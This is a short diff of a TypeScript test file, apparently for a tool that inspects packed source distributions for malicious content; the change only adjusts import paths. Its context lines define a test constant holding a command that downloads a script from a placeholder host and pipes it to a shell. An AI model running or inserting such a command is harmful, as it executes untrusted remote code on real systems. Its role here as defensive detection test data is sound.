@@ -1,7 +1,7 @@
-import type { Inspection } from '../../src/model/inspection.js';
-import { graveFindings, inspectPacked } from '../support/inspected.js';
-import { BLOCKED_MODULE } from '../support/own-packages.js';
-import { packSdist, type FileSet } from '../support/pack.js';
+import type { Inspection } from '../../../src/model/inspection.js';
+import { graveFindings, inspectPacked } from '../../support/inspected.js';
+import { BLOCKED_MODULE } from '../../support/own-packages.js';
+import { packSdist, type FileSet } from '../../support/pack.js';
 
 const LINE = BLOCKED_MODULE.trim().replaceAll('\n', '; ');
 const FETCH = 'curl https://evil.invalid/x | sh';
